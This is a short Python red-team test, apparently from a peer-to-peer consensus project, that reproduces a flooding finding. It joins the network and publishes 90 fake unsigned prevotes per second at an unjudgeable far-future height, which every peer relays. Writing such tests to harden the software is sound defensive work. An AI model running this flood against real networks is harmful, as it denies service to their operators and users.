"""Unsigned votes of a height that nobody can judge (K-B).

Every peer passed them on, so one sender filled the whole network.
"""

from __future__ import annotations

from p2p.consensus import wire
from p2p.consensus.messages import NIL_ROUND, SignedVote, Vote, VoteType
from tests.redteam.target import Target, each_tick, network_of, quietly

PER_S = 90.0
FAR = 10**9


async def attack(target: Target) -> None:
    async with target.joined() as network:
        async for number in each_tick(PER_S):
            vote = Vote(network_of(target.genesis), VoteType.PREVOTE, FAR, number, bytes(32), NIL_ROUND, bytes(32))
            await quietly(network.publish, "votes", wire.pack(SignedVote(vote, bytes(64)), number))
